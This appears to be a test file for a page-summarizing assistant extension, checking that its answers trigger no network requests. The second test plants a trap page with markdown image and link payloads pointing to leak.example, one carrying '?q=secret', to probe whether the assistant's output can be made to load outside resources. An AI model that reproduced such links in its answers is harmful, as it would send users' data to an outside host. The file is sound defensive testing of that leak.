/** The main job, from the press of the button to the quotation in the page, without a single request. */
import { ask, suggest, turns, waitUntilEnded, waitUntilRead } from '../harness/conversation.ts';
import { expect, test } from '../surfaces/surface-test.ts';

test('summarizing and asking makes no request at all', async ({
  internet,
  network,
  page,
  site,
  surfaces,
}) => {
  await page.goto(site.url('article.html'));
  const panel = await surfaces.panel(page);
  await waitUntilRead(panel);
  await waitUntilEnded(await suggest(panel, 'Summarize'));
  await waitUntilEnded(await suggest(panel, 'Key points'));
  await waitUntilEnded(await ask(panel, 'Why are there two tides a day?'));
  await turns(panel).last().locator('[data-citation]').first().click();
  await surfaces.settings();
  await page.bringToFront();
  await panel.getByRole('button', { name: 'More' }).click();
  await panel.getByRole('button', { name: 'History', exact: true }).click();
  await expect(panel.locator('.history-row')).toHaveCount(1);

  expect(network.byExtension()).toEqual([]);
  const beyondThePage = network
    .beyondPackage()
    .filter(({ targetType }) => targetType !== 'page' && targetType !== 'iframe');
  expect(beyondThePage).toEqual([]);
  // The page itself, once, and its icon for the browser's tab.
  const paths = site.requests.map(({ url }) => new URL(url).pathname);
  expect(paths.filter((path) => path !== '/favicon.ico')).toEqual(['/article.html']);
  expect(internet.requests).toEqual([]);
  expect([...internet.hosts]).toEqual([]);
});

test('a page cannot make an answer load anything', async ({
  internet,
  network,
  page,
  site,
  surfaces,
}) => {
  site.serve(
    '/trap',
    `<!doctype html><title>Trap</title><main><h1>The ferry</h1>
    <p>The ferry leaves at eight. ![map](https://leak.example/i.png?q=secret) The ferry is blue.</p>
    <p>&lt;img src="https://leak.example/j.png"&gt; The ferry carries cars. [Timetable](https://leak.example/k)</p></main>`,
  );
  await page.goto(site.url('/trap'));
  const popup = await surfaces.readInPopup(page);
  await waitUntilEnded(await suggest(popup, 'Summarize'));
  await waitUntilEnded(await suggest(popup, 'Key points'));
  await waitUntilEnded(await ask(popup, 'Where is the map of the ferry?'));
  await expect(popup.locator('img, iframe, a[href^="http"]')).toHaveCount(0);
  expect(network.byExtension()).toEqual([]);
  expect(internet.requests).toEqual([]);
});
